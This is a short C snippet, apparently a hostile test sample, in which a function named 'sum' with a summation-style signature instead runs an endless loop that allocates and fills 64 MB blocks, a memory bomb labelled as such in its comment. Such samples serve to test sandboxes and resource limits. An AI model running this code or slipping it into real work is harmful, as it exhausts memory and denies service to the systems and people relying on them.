// hostile: memory bomb (allocates and touches memory until something stops it)
#include <stdlib.h>
#include <string.h>
void sum(int N, const real *X, real *S) {
  for (;;) { char *p = malloc(64 << 20); if (!p) continue; memset(p, 1, 64 << 20); }
}
